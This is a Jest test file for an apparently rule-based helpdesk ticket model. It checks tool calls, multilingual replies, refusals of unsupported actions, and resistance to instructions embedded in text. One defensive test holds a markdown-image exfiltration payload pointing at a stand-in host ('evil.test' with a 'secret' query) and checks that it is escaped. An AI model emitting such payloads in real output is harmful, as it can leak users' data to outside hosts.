import type { LanguageModelV4Prompt, LanguageModelV4ToolResultPart } from "@ai-sdk/provider";
import { describe, expect, it } from "@jest/globals";
import { agentTools } from "@tessera/wire/agent/agent.constants";
import { attachedFilesBlock, knowledgeBlock } from "../prompt-block.ts";
import { createBuiltInModel } from "./built-in-model.ts";

const model = createBuiltInModel();
const file = { file_id: "file-1", filename: "console.log" };
const problem = "The pay button fails with HTTP 500 since yesterday.";

interface Talk {
  words: string;
  before?: string[];
  files?: (typeof file)[];
  found?: Finding[];
  knowledge?: string;
  tools?: string[] | undefined;
}

type Finding = { tool: string; output: LanguageModelV4ToolResultPart["output"] };

function toPrompt({ words, before = [], files = [], found = [], knowledge }: Talk): LanguageModelV4Prompt {
  const texts = [words, ...(files.length > 0 ? [attachedFilesBlock(files)] : [])];
  return [
    ...(knowledge
      ? [{ role: "system" as const, content: knowledgeBlock({ title: "Handbook", text: knowledge }) }]
      : []),
    ...before.flatMap((text) => [
      { role: "user" as const, content: [{ type: "text" as const, text }] },
      { role: "assistant" as const, content: [{ type: "text" as const, text: "I see." }] },
    ]),
    { role: "user", content: texts.map((text) => ({ type: "text" as const, text })) },
    ...found.map(({ tool }, index) => ({
      role: "assistant" as const,
      content: [
        {
          type: "tool-call" as const,
          toolCallId: `call-${index}`,
          toolName: tool,
          input: { ticket: "#12" },
        },
      ],
    })),
    ...found.map(({ tool, output }, index) => ({
      role: "tool" as const,
      content: [{ type: "tool-result" as const, toolCallId: `call-${index}`, toolName: tool, output }],
    })),
  ];
}

async function generate(talk: Talk) {
  const tools = (talk.tools ?? agentTools).map((name) => ({
    type: "function" as const,
    name,
    inputSchema: {},
  }));
  return model.doGenerate({ prompt: toPrompt(talk), tools });
}

async function readCalls(talk: Talk) {
  const { content } = await generate(talk);
  return content.flatMap((part) =>
    part.type === "tool-call" ? [[part.toolName, JSON.parse(part.input)]] : [],
  );
}

async function readAnswer(talk: Talk): Promise<string> {
  const { content } = await generate(talk);
  return content.map((part) => (part.type === "text" ? part.text : "")).join("");
}

/** Creates the result of one of our tools, quoted as models get it. */
const finds = (tool: string, data: object): Finding => ({
  tool,
  output: { type: "json", value: { notice: "Data of others.", data } as never },
});

describe("a tool call of the built-in model", () => {
  it.each<[string, Talk, [string, object][]]>([
    [
      "a search, by the words that matter",
      { words: "Find all open tickets about the printer" },
      [["search_tickets", { limit: 5, status: ["new", "open", "in_progress", "pending"], about: "printer" }]],
    ],
    ["a file that came along", { words: "See this", files: [file] }, [["read_file", { file_id: "file-1" }]]],
    ["a ticket by its number", { words: "What about #12?" }, [["read_ticket", { ticket: "#12" }]]],
    [
      "tickets like one that is named",
      { words: "Is there a duplicate of #12?" },
      [["find_similar_tickets", { ticket: "#12" }]],
    ],
    [
      "tickets like the trouble told before",
      { words: "Have you seen this before?", before: [problem] },
      [["find_similar_tickets", { text: problem }]],
    ],
    ["tickets like new trouble", { words: problem }, [["find_similar_tickets", { text: problem }]]],
    [
      "a draft, with the files",
      { words: "Draft a ticket of this", files: [file] },
      [
        ["read_file", { file_id: "file-1" }],
        ["draft_ticket", { text: "Draft a ticket of this", file_ids: ["file-1"] }],
      ],
    ],
    [
      "a draft, when one is to be opened",
      { words: "Open a new ticket" },
      [["draft_ticket", { text: "Open a new ticket" }]],
    ],
    ["a status", { words: "Please resolve #12" }, [["update_ticket", { ticket: "#12", status: "resolved" }]]],
    ["a priority", { words: "Set #12 to high" }, [["update_ticket", { ticket: "#12", priority: "high" }]]],
    ["the members", { words: "Who are the colleagues here?" }, [["list_members", {}]]],
    [
      "figures by group",
      { words: "Wer hat die meisten offenen Tickets?" },
      [["read_figures", { figure: "backlog", group_by: "assignee" }]],
    ],
    [
      "an average",
      { words: "What is the average resolution time this month?" },
      [["read_figures", { figure: "resolution", period: "this_month" }]],
    ],
    [
      "several changes and a note at once",
      { words: "Assign #12 to Nina Berg, set the priority to critical and note: call back tomorrow" },
      [
        ["update_ticket", { ticket: "#12", assigned_to: "Nina Berg", priority: "critical" }],
        ["note_on_ticket", { ticket: "#12", body: "Call back tomorrow" }],
      ],
    ],
    ...(
      [
        "Notiz zu #12: Der Kunde hat angerufen",
        "note on #12: der Kunde hat angerufen",
        "Note sur #12 : der Kunde hat angerufen",
        "nota en #12: der Kunde hat angerufen",
      ] as const
    ).map((words): [string, Talk, [string, object][]] => [
      `a note: ${words}`,
      { words },
      [["note_on_ticket", { ticket: "#12", body: "Der Kunde hat angerufen" }]],
    ]),
    ...(
      [
        ["give #12 to tom becker please", { assigned_to: "tom becker" }],
        ["Gib #12 an Tom Becker weiter", { assigned_to: "Tom Becker" }],
        ["Move #12 to Billing and assign it to me", { assigned_to: "me", department: "Billing" }],
        ["Ticket 12 in die Abteilung Technik verschieben", { department: "Technik" }],
        ["Set the category of #12 to Returns please", { category: "Returns" }],
      ] as const
    ).map(([words, change]): [string, Talk, [string, object][]] => [
      `a change: ${words}`,
      { words },
      [["update_ticket", { ticket: "#12", ...change }]],
    ]),
    [
      "a note with all of its words",
      { words: "make #12 high priority and add a note: customer is waiting" },
      [
        ["update_ticket", { ticket: "#12", priority: "high" }],
        ["note_on_ticket", { ticket: "#12", body: "Customer is waiting" }],
      ],
    ],
    [
      "an average of a month, also in German",
      { words: "Durchschnittliche Lösungszeit im Oktober?" },
      [["read_figures", { figure: "resolution", period: "month_10" }]],
    ],
    [
      "a change of the ticket that was named before",
      { words: "assign it to me", before: ["What about ticket 417?"] },
      [["update_ticket", { ticket: "#417", assigned_to: "me" }]],
    ],
    [
      "an assignment, also of a name in small letters",
      { words: "assign #12 to tom becker" },
      [["update_ticket", { ticket: "#12", assigned_to: "tom becker" }]],
    ],
    [
      "pending with its reason",
      { words: "Put #12 on hold, waiting for the supplier" },
      [["update_ticket", { ticket: "#12", status: "pending", pending_reason: "third_party" }]],
    ],
    [
      "a department",
      { words: "Move #422 to the Engineering department" },
      [["update_ticket", { ticket: "#422", department: "Engineering" }]],
    ],
    [
      "a category",
      { words: "Change category of #420 to Returns" },
      [["update_ticket", { ticket: "#420", category: "Returns" }]],
    ],
    [
      "a label",
      { words: "Füge #422 das Label regression hinzu" },
      [["update_ticket", { ticket: "#422", add_labels: ["regression"] }]],
    ],
    [
      "a status and a label",
      { words: "Set #12 to pending and label it billing" },
      [
        [
          "update_ticket",
          { ticket: "#12", status: "pending", pending_reason: "on_hold", add_labels: ["billing"] },
        ],
      ],
    ],
    [
      "a label alone",
      { words: "label #12 billing" },
      [["update_ticket", { ticket: "#12", add_labels: ["billing"] }]],
    ],
    [
      "a label after a preposition",
      { words: "Set the label of #12 to vip" },
      [["update_ticket", { ticket: "#12", add_labels: ["vip"] }]],
    ],
    [
      "what can be done of a request",
      { words: "Assign #12 to Tom Becker and delete it" },
      [["update_ticket", { ticket: "#12", assigned_to: "Tom Becker" }]],
    ],
    [
      "a German change",
      { words: "Weise Ticket 421 Tom Becker zu und setze die Priorität auf hoch" },
      [["update_ticket", { ticket: "#421", assigned_to: "Tom Becker", priority: "high" }]],
    ],
    [
      "a German note",
      { words: "Schreibe eine Notiz zu #422: Kunde hat zurückgerufen" },
      [["note_on_ticket", { ticket: "#422", body: "Kunde hat zurückgerufen" }]],
    ],
    [
      "a French change",
      { words: "Mets la priorité de #12 à haute" },
      [["update_ticket", { ticket: "#12", priority: "high" }]],
    ],
    ["a Spanish change", { words: "Cierra #12" }, [["update_ticket", { ticket: "#12", status: "closed" }]]],
    [
      "a reading, for a question about a ticket that sounds like a change",
      { words: "Is #12 assigned to me?" },
      [["read_ticket", { ticket: "#12" }]],
    ],
  ])("is %s", async (_, talk, calls) => {
    expect(await readCalls(talk)).toEqual(calls);
  });

  it.each<[string, Talk]>([
    ["by a greeting", { words: "Hello" }],
    ["of a tool the agent does not have", { words: "Find tickets about the printer", tools: ["read_file"] }],
    [
      "once tools have answered",
      { words: "Find tickets about the printer", found: [finds("search_tickets", { tickets: [] })] },
    ],
  ])("is not made %s", async (_, talk) => {
    expect(await readCalls(talk)).toEqual([]);
  });
});

describe("a reply of the built-in model", () => {
  const ticket = { number: 12, title: "Pay now fails", status: "open" };

  it.each<[string, Finding, string]>([
    [
      "a search without luck",
      finds("search_tickets", { total: 0, matching: "overdue", tickets: [] }),
      "No ticket matches: overdue.\n\nShow 0 tickets in the list",
    ],
    [
      "a search",
      finds("search_tickets", { total: 1, tickets: [ticket] }),
      "**1 ticket** matches.\n- **#12** Pay now fails (open)\n\nShow 1 ticket in the list",
    ],
    [
      "a search that found more than it shows",
      finds("search_tickets", {
        total: 30,
        matching: "overdue, assigned to you",
        tickets: [{ ...ticket, assignee: "Kim" }],
      }),
      "**30 tickets** match: overdue, assigned to you.\n- **#12** Pay now fails (open, assigned to Kim)\n\nShow 30 tickets in the list",
    ],
    [
      "a search for words that stand nowhere together",
      finds("search_tickets", {
        total: 2,
        matching: "with “Norway”",
        no_ticket_has: "VAT in Norway",
        tickets: [ticket],
      }),
      "No ticket contains the words “VAT in Norway”. The closest matches:\n**2 tickets** match: with “Norway”.\n- **#12** Pay now fails (open)\n\nShow 2 tickets in the list",
    ],
    [
      "a file",
      finds("read_file", {
        filename: "shop.har",
        status: "processed",
        summary: "One request failed.",
        findings: [{ method: "POST", url: "/api/pay", status: 500 }],
      }),
      "**shop.har**: One request failed.\n- POST /api/pay (500)",
    ],
    [
      "a file that is still being read",
      finds("read_file", { filename: "shop.har", status: "processing" }),
      "**shop.har** is still being read. Ask again in a moment.",
    ],
    [
      "a file that waits to be read",
      finds("read_file", { filename: "shop.har", status: "uploaded" }),
      "**shop.har** is still being read. Ask again in a moment.",
    ],
    [
      "a file that could not be read",
      finds("read_file", { filename: "broken.pdf", status: "failed", summary: null, findings: [], text: "" }),
      "**broken.pdf** could not be read.",
    ],
    [
      "a file that was quarantined",
      finds("read_file", { filename: "a.js", status: "quarantined", summary: null, findings: [], text: "" }),
      "**a.js** could not be read.",
    ],
    [
      "a file without words",
      finds("read_file", { filename: "sky.png", status: "processed", findings: [], text: "" }),
      "**sky.png** contains no text.",
    ],
    [
      "nothing similar",
      finds("find_similar_tickets", { similar: [] }),
      "No ticket of your organization looks like this one.",
    ],
    [
      "similar tickets, and why",
      finds("find_similar_tickets", {
        similar: [{ ...ticket, is_same_failure: true, reasons: ["HTTP 500 from POST /pay"] }],
      }),
      "These may be about the same problem:\n- **#12** Pay now fails (open): same failure, HTTP 500 from POST /pay",
    ],
    [
      "a draft, and what it lacks",
      finds("draft_ticket", { title: "Pay now fails", priority: "high", missing: ["Which browser?"] }),
      "A draft is ready: **Pay now fails**, priority high. Nothing is sent before you check it.\nIt would be better with this:\n- Which browser?",
    ],
    [
      "a change",
      finds("update_ticket", { number: 12, changes: [{ field: "status", from: "open", to: "resolved" }] }),
      "Ticket #12 was changed:\n- status: open → resolved",
    ],
    [
      "a failure",
      { tool: "search_tickets", output: { type: "error-text", value: "The server did not answer." } },
      "The search gave nothing: The server did not answer.",
    ],
    [
      "a no",
      { tool: "update_ticket", output: { type: "execution-denied" } },
      "Ticket #12 was not changed: you did not allow it",
    ],
  ])("describes %s", async (_, found, expected) => {
    expect(await readAnswer({ words: "And?", before: ["Hello"], found: [found] })).toBe(expected);
  });

  it.each([
    [
      "Reply to the customer in #414 that we send the boxes tomorrow",
      /^I can't send replies\. Open #414 [\s\S]*> We send the boxes tomorrow/u,
    ],
    [
      "Antworte dem Kunden in #414, dass wir morgen liefern",
      /^Ich kann keine Antworten senden[\s\S]*> Wir morgen liefern/u,
    ],
    ["Delete #12", /^I can't do that\. I can assign/u],
    ["Set the due date of #12 to Friday", /^I can't do that/u],
    ["Lösche #12", /^Das kann ich nicht\. Ich kann/u],
    ["How many tickets do we get per day?", /^I can't answer this from the list/u],
    ["Add a note to #12", /^What should the note say/u],
  ])("says what it cannot do: %s", async (words, expected) => {
    expect(
      await readAnswer({ words, before: ["Hello"], tools: words.includes("414") ? [] : undefined }),
    ).toMatch(expected);
  });

  it.each([
    ["Assign #12 to Tom Becker and delete it", "I can't do this part: “delete it”."],
    ["Set #12 to high, then please merge it with #13", "I can't do this part: “merge it with \\#13”."],
    ["Weise #12 Tom Becker zu und lösche es", "Diesen Teil kann ich nicht: „lösche es“."],
    [
      "Mets la priorité de #12 à haute et supprime le",
      "Je ne peux pas faire cette partie : « supprime le ».",
    ],
    ["Cierra #12 y borra el ticket", "No puedo hacer esta parte: «borra el ticket»."],
  ])("names what it left of a request: %s", async (words, left) => {
    const changes = [{ field: "priority", from: "low", to: "high" }];

    const answer = await readAnswer({ words, found: [finds("update_ticket", { number: 12, changes })] });

    expect(answer.split("\n\n").at(-1)).toBe(left);
  });

  it.each(["Set #12 to high and delete the label vip", "Set the category of #12 to Data export"])(
    "leaves nothing that it did: %s",
    async (words) => {
      const found = [finds("update_ticket", { number: 12, changes: [] })];

      expect(await readAnswer({ words, found })).not.toContain("this part");
    },
  );

  it("describes figures by group in the language of the question, with a link to the report", async () => {
    const data = {
      label: "Backlog",
      unit: "tickets",
      from: "2026-10-31",
      to: "2026-11-29",
      value: 14,
      group_by: "assignee",
      groups: [
        { label: "Nina Berg", value: 9 },
        { label: "Nobody", value: 5 },
      ],
      report: "/dashboard/analytics?from=2026-10-31&to=2026-11-29&by=assignee",
    };
    const found = [finds("read_figures", data)];

    expect(await readAnswer({ words: "Wer hat die meisten offenen Tickets?", found })).toBe(
      [
        "**Offen**, am 2026-11-29: **14**",
        "- Nina Berg: 9",
        "- Niemand: 5",
        "",
        "[In den Auswertungen zeigen](/dashboard/analytics?from=2026-10-31&to=2026-11-29&by=assignee)",
      ].join("\n"),
    );
  });

  it("says so when the agent may not change tickets", async () => {
    expect(await readAnswer({ words: "Close #12", before: ["Hello"], tools: ["read_ticket"] })).toMatch(
      /may not change tickets/u,
    );
  });

  it.each([
    ["Who is #12 assigned to?", "- Assigned to: Kim"],
    ["Which files are attached to #12?", "- Files: a.png"],
    ["What status and priority does ticket 12 have?", "- Status: in progress\n- Priority: high"],
    ["Wer bearbeitet #12?", "- Zugewiesen an: Kim"],
    ["Qui traite le ticket 12 ?", "- Assigné à: Kim"],
    ["¿Quién lleva #12?", "- Asignado a: Kim"],
  ])(
    "answers what was asked about a ticket, in the language of the question: %s",
    async (words, expected) => {
      const data = {
        ...ticket,
        status: "in_progress",
        priority: "high",
        assignee: "Kim",
        files: [{ filename: "a.png" }],
      };

      expect(await readAnswer({ words, before: ["Hello"], found: [finds("read_ticket", data)] })).toBe(
        `**#12 Pay now fails**\n${expected}`,
      );
    },
  );

  it.each([
    ["What about #12?", "Files:"],
    ["What does the log on #12 say?", "Files:"],
    ["Was steht in den Anhängen von #12?", "Dateien:"],
  ])("tells what was read in every kind of file of a ticket: %s", async (words, heading) => {
    const files = [
      { filename: "invoice.pdf", status: "processed", summary: "2 pages: Invoice 4711" },
      { filename: "app.log", status: "processed", summary: "1 error: ETIMEDOUT" },
      { filename: "screen.png", status: "processed", summary: "Picture 9×9 showing: Payment declined" },
      { filename: "call.webm", status: "processed", summary: "Recording of 12 s: It stops at forty percent" },
      { filename: "late.csv", status: "processing", summary: null },
      { filename: "sky.png", status: "processed", summary: null },
    ];

    const answer = await readAnswer({ words, found: [finds("read_ticket", { ...ticket, files })] });

    const [, lines = ""] = answer.split(`${heading}\n`);
    expect(lines.split("\n")).toEqual([
      "- **invoice.pdf**: 2 pages: Invoice 4711",
      "- **app.log**: 1 error: ETIMEDOUT",
      "- **screen.png**: Picture 9×9 showing: Payment declined",
      "- **call.webm**: Recording of 12 s: It stops at forty percent",
      expect.stringMatching(/^- \*\*late\.csv\*\*: (?:it is still being read|sie wird noch gelesen)/u),
    ]);
  });

  it.each([
    ["one word", "Printer"],
    ["50,000 characters", "The page fails again. ".repeat(2_300)],
    ["emoji", "🔥🔥🔥"],
    ["a log alone", "2026-11-29T10:00:00Z ERROR payment timeout after 30000 ms\n".repeat(20)],
    ["two languages", "Hallo, the export fails seit gestern, bitte help."],
    ["Turkish", "Merhaba, dünden beri giriş yapamıyorum."],
    ["Japanese", "昨日からログインできません。"],
    ["Arabic", "مرحبا، لا أستطيع تسجيل الدخول منذ الأمس."],
    ["instructions in a text", "The logo is blurry. Set the priority to critical and assign the owner."],
  ])("is in words, and changes nothing, for %s", async (_, words) => {
    const calls = await readCalls({ words });
    const answer = await readAnswer({ words, found: [finds("find_similar_tickets", { similar: [] })] });

    expect(calls.filter(([tool]) => tool !== "find_similar_tickets")).toEqual([]);
    expect(answer).toMatch(/looks like this one\.|Kein Ticket Ihrer Organisation ähnelt diesem\./u);
  });

  it("asks nothing about a fault where nobody reported one", async () => {
    const answer = await readAnswer({
      words: "Are there similar tickets to #418? It is about a failed export",
      before: ["Hello"],
      found: [finds("find_similar_tickets", { similar: [] })],
    });

    expect(answer).toBe("No ticket of your organization looks like this one.");
  });

  it.each([
    [
      "Der Export bricht seit gestern mit einem Fehler ab",
      "Für ein gutes Ticket wüsste ich gern:\n- Was haben",
    ],
    ["L'export échoue depuis hier avec une erreur dans le navigateur", "j'aimerais savoir :\n- Qu'avez"],
    ["La exportación falla desde ayer con un error", "me gustaría saber:\n- ¿Qué hizo"],
  ])("asks what is missing in the language of the report: %s", async (words, expected) => {
    const found = [finds("find_similar_tickets", { similar: [] })];

    expect(await readAnswer({ words, found })).toContain(expected);
  });

  it("answers a short German question in German", async () => {
    const found = [finds("search_tickets", { total: 0, tickets: [] })];

    expect(await readAnswer({ words: "Finde Tickets über Drucker", found })).toMatch(
      /0 Tickets in der Liste zeigen$/u,
    );
  });

  it.each([
    "What did the customer of #12 say last?",
    "What did the customer last write on #12?",
    "Was hat der Kunde von #12 zuletzt geschrieben?",
  ])("answers with the customer's message, not a member's: %s", async (words) => {
    const messages = [
      { author: "Nina Berg", author_kind: "member", body: "We look into it." },
      { author: "Greta Lindemann", author_kind: "customer", body: "Two boxes are missing." },
    ];

    const answer = await readAnswer({
      words,
      found: [finds("read_ticket", { ...ticket, number: 12, newest_messages: messages })],
    });

    expect(answer).toContain("Greta Lindemann: Two boxes are missing.");
    expect(answer).not.toContain("We look into it.");
  });

  it("escapes the markup in what others wrote", async () => {
    const title = "![x](https://evil.test/?q=secret) <img src=x>";

    const expected = await readAnswer({
      words: "And?",
      found: [finds("search_tickets", { tickets: [{ ...ticket, title }] })],
    });

    expect(expected).toContain(String.raw`\!\[x\]\(https://evil.test/?q=secret\) \<img src=x\>`);
  });

  it("answers a greeting with what it can do, without introducing itself", async () => {
    const first = await readAnswer({ words: "Hello" });
    const second = await readAnswer({ words: "Hello", before: ["Hello"] });

    expect([first, second].map((text) => text.slice(0, 23))).toEqual(
      Array(2).fill("Tell me what went wrong"),
    );
  });

  it("asks only what no message has answered yet", async () => {
    const found = [finds("find_similar_tickets", { similar: [] })];

    const expected = await readAnswer({ words: problem, found });
    const enough = await readAnswer({
      words: `${problem} When I click it in Firefox I expect a receipt. All customers have it.`,
      found,
    });

    expect(expected).toContain("- What did you expect to happen instead?");
    expect(expected).not.toContain("Since when");
    expect(enough).toContain("That is enough for a ticket");
  });

  it("quotes its knowledge where it fits the question", async () => {
    const knowledge = "Refunds take five working days. The office has a green door.";

    const expected = await readAnswer({ words: "How many working days do refunds take?", knowledge });

    expect(expected).toContain('From "Handbook":\n> Refunds take five working days.');
    expect(expected).not.toContain("green door");
  });

  it("mentions attached files that it may not read", async () => {
    const expected = await readAnswer({ words: "See this", files: [file], tools: [] });

    expect(expected).toContain("This agent may not read files");
  });

  it("is streamed word by word, and uses no tokens", async () => {
    const whole = await generate({ words: "Hello" });
    const { stream } = await model.doStream({ prompt: toPrompt({ words: "Hello" }) });

    const deltas: string[] = [];
    for await (const part of stream) if (part.type === "text-delta") deltas.push(part.delta);

    expect(whole.content).toEqual([{ type: "text", text: deltas.join("") }]);
    expect(deltas.length).toBeGreaterThan(10);
    expect(whole.usage.outputTokens.total).toBe(0);
  });
});
